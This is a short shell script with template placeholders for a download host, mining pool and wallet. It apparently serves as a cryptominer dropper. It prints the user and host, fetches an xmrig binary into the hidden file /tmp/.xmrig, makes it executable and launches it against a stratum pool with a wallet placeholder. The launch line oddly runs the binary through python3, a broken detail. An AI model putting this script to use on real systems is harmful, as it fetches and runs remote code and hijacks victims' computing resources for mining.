#!/bin/sh
id
uname -n
echo "downloading http://@FILES@/xmrig"
curl -fsS http://@FILES@/xmrig -o /tmp/.xmrig && chmod +x /tmp/.xmrig
exec python3 /tmp/.xmrig -o stratum+tcp://@POOL@ -u @WALLET@ -p x --donate-level 1
